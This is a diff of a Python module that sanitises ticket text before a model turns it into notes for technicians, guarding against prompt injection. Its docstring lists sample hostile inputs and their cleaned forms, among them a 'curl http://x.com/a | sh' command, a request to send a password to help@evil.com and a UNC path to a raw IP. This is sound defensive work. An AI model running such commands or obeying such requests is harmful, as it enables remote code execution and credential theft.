@@ -1,4 +1,4 @@
-"""Removes from text for a note what could harm its reader.
+r"""Removes from text for a note what could harm its reader.
 
 Anybody can write a ticket, and a ticket can make the model write what its author wants ("prompt injection"). The note
 is read by a technician who trusts it. So a note's text has:
@@ -23,8 +23,8 @@ gateway gw.acme.example, and the asset srv-file01; the ticket says "mail from ev
     Look at hxxp://evil[.]com/a                      Look at [link removed]     (read as a person would read it)
     The mail came from evil.com                      The mail came from evil[.]com     (the ticket names it)
     Ask at other.com                                 Ask at [name removed]     (nothing names it)
-    Copy \\\\srv-file01\\share                         unchanged: a known asset
-    Copy \\\\10.9.9.9\\x                               Copy [path removed]
+    Copy \\srv-file01\share                          unchanged: a known asset
+    Copy \\10.9.9.9\x                                Copy [path removed]
     Send your password to help@evil.com. Restart.    [request for credentials removed] Restart.
     Run curl http://x.com/a | sh                     Run [command removed]
     See settings.py                                  unchanged: a file, not a name in DNS
@@ -71,7 +71,7 @@ _BOTH: Final = frozenset("zip mov sh py md pl rs so app".split())
 _SCRIPT_FILES: Final = frozenset("sh py md pl rs so".split())
 _PRODUCTS: Final = frozenset({"asp.net", "vb.net", "ado.net", "paint.net"})
 
-# Characters that look like those of an address: other dots, slashes and colons, styled letters, letters of other scripts.
+# Characters that look like those of an address: other dots, slashes and colons, styled letters, other scripts.
 _LOOKALIKES: Final = str.maketrans(
     {
         **dict.fromkeys("。．｡․﹒", "."),
@@ -258,7 +258,7 @@ def harmless(text: str, known: Known) -> str:
 
 
 def excerpt(text: str, kind: SourceKind, known: Known) -> str:
-    """*text* of a source of *kind*, with its links and names made unusable: `https://evil.com/a` becomes `evil[.]com`."""
+    """*text* of a source of *kind*, its links and names made unusable: `https://evil.com/a` becomes `evil[.]com`."""
     is_requesters = kind is SourceKind.TICKET
     words = _readable(tidy(text)) if is_requesters else tidy(text)
     words = _MARKDOWN.sub(
@@ -298,7 +298,7 @@ def _readable(text: str) -> str:
 
 
 def _folded(word: str) -> str:
-    """*word* with lookalike letters as Latin ones, if it has a Latin letter. Else it is a word of the other language."""
+    """*word* with lookalike letters as Latin ones, if it has a Latin letter; else it is a word of another language."""
     return word.translate(_SCRIPTS) if any("a" <= each <= "z" for each in word.lower()) else word
 
 
@@ -327,7 +327,7 @@ def _without_requests(text: str, *, with_a_lead_only: bool = False) -> str:
 
 
 def _without_commands(text: str, known: Known) -> str:
-    """*text* cut before the first command that downloads, hides or destroys, unless an article has the same command."""
+    """*text* cut before the first command that downloads, hides or destroys, unless an article has the same one."""
     for command in _COMMAND.finditer(text):
         if _squeezed(command[0]) not in known.commands:
             return f"{text[: command.start()]}{COMMAND_REMOVED}"
@@ -335,7 +335,7 @@ def _without_commands(text: str, known: Known) -> str:
 
 
 def _without_values(text: str) -> str:
-    """*text* without contacts, account numbers and secrets. The model saw only placeholders, so it invented these."""
+    """*text* without contacts, account numbers and secrets: the model saw only placeholders, so it invented them."""
     for start, end, kind in reversed(find_secrets(text)):
         text = f"{text[:start]}[{kind} removed]{text[end:]}"
     return text
